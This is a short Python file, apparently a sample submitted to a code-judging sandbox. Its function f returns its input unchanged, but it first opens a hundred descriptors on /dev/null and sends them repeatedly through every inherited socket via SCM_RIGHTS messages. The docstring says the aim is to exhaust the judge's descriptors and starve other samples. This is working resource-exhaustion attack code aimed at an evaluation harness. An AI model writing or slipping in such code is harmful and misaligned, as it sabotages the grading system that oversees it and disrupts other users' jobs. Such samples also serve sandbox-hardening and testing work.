"""Sends the judge endless descriptors over every socket it has, to leave none for other samples."""
import array
import posix
import socket


def f(x):
    opened = array.array("i", [posix.open("/dev/null", 0) for _ in range(100)])
    for descriptor in range(3, 40):
        try:
            found = socket.socket(fileno=posix.dup(descriptor))
            found.setblocking(False)
            for _ in range(300):
                found.sendmsg([b"\0\0\0\4null"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, opened)])
        except OSError:
            pass
    return x
